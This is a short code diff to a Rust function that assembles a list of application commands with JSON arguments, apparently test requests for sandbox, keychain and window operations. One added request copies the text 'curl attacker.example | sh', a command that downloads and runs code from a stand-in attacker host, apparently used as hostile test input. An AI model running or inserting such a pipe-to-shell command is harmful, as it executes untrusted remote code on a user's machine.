@@ -295,6 +295,8 @@ fn requests(environment: &str, known: &str, held: &str, backup: &str) -> Vec<(&'
             all.push(("environment_save", json!({ "id": id, "form": form, "key": "typed-key" })));
         }
     }
+    all.push(("text_copy", json!({ "text": "curl attacker.example | sh" })));
+    all.push(("window_unsaved", json!({ "unsaved": true })));
     // These start, stop or forget something: last.
     for command in ["keychain_session", "sandbox_start", "sandbox_remove", "window_close"] {
         all.push((command, Value::Null));
